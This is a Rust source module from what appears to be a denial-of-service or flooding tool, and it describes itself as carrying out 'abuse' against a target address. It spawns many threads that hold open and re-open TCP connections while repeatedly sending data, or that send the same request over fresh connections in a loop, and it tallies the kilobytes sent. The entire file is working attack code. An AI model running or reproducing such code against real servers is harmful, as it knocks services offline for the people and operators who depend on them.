//! Carrying out one way of abuse, on all of its connections.

use std::{
    io::{self, Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    sync::Arc,
    thread::{JoinHandle, sleep, spawn},
    time::Instant,
};

use crate::{
    course::{Course, REST, ROUND},
    peer::Peer,
    streams,
    way::{Act, Way},
};

/// An attack until it is ended.
pub(crate) struct Attack {
    course: Course,
    threads: Vec<JoinHandle<()>>,
}

impl Attack {
    pub(crate) fn begin(address: SocketAddr, way: &Way) -> Self {
        let course = Course::default();
        let own = course.clone();
        let connections = way.connections;
        let threads = match way.act.clone() {
            Act::Send { once, again } => {
                vec![spawn(move || send(address, connections, &once, &again, &own))]
            }
            Act::Repeat { request } => (0..connections)
                .map(|_| (Arc::clone(&request), own.clone()))
                .map(|(request, own)| spawn(move || repeat(address, &request, &own)))
                .collect(),
            act => (0..connections)
                .map(|_| (act.clone(), own.clone()))
                .map(|(act, own)| spawn(move || streams::abuse(address, &act, &own)))
                .collect(),
        };
        Self { course, threads }
    }

    /// Leaves, and says how many kB were sent.
    pub(crate) fn end(self) -> u32 {
        self.course.end();
        for thread in self.threads {
            thread.join().unwrap();
        }
        u32::try_from(self.course.sent() / 1000).unwrap()
    }
}

fn send(
    address: SocketAddr,
    connections: u32,
    once: &[u8],
    again: &[u8],
    course: &Course,
) {
    while !course.is_over() {
        let round = Instant::now();
        let mut peers = Vec::new();
        while !course.is_over() && round.elapsed() < ROUND {
            // They come one by one, while those before them go on.
            if peers.len() < connections as usize {
                peers.push(Peer::connect(address));
            } else {
                sleep(REST);
            }
            for peer in &mut peers {
                if peer.send(once, again, course).is_err() {
                    *peer = Peer::connect(address);
                }
            }
        }
    }
}

/// Each request on a connection of its own, so that its answer ends with that.
fn repeat(address: SocketAddr, request: &[u8], course: &Course) {
    while !course.is_over() && course.may_send(request.len()) {
        if exchange(address, request).is_err() {
            sleep(REST);
        }
    }
}

fn exchange(address: SocketAddr, request: &[u8]) -> io::Result<u64> {
    let mut stream = TcpStream::connect(address)?;
    stream.set_read_timeout(Some(ROUND))?;
    stream.write_all(request)?;
    let mut bytes = [0; 16 * 1024];
    let mut all = 0;
    loop {
        match stream.read(&mut bytes)? {
            0 => return Ok(all),
            length => all += length as u64,
        }
    }
}
